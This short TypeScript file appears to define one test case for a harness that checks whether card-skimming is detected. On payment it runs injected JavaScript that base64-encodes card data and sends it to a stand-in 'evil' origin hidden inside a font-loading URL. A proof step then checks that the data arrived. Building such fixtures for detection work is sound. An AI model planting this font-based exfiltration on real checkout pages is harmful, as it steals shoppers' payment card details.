import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'font-address',
  why: 'A font is loaded from an address that is the loot: fonts are the requests nobody reads.',
  covers: ['hard: unusual channel', 'disguise: file ending'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(
        js`new FontFace('wk', 'url(${site.origins.evil}/wk.woff2?d=' + encodeURIComponent(btoa(card())) + ')').load().catch(function () {});`,
      ),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
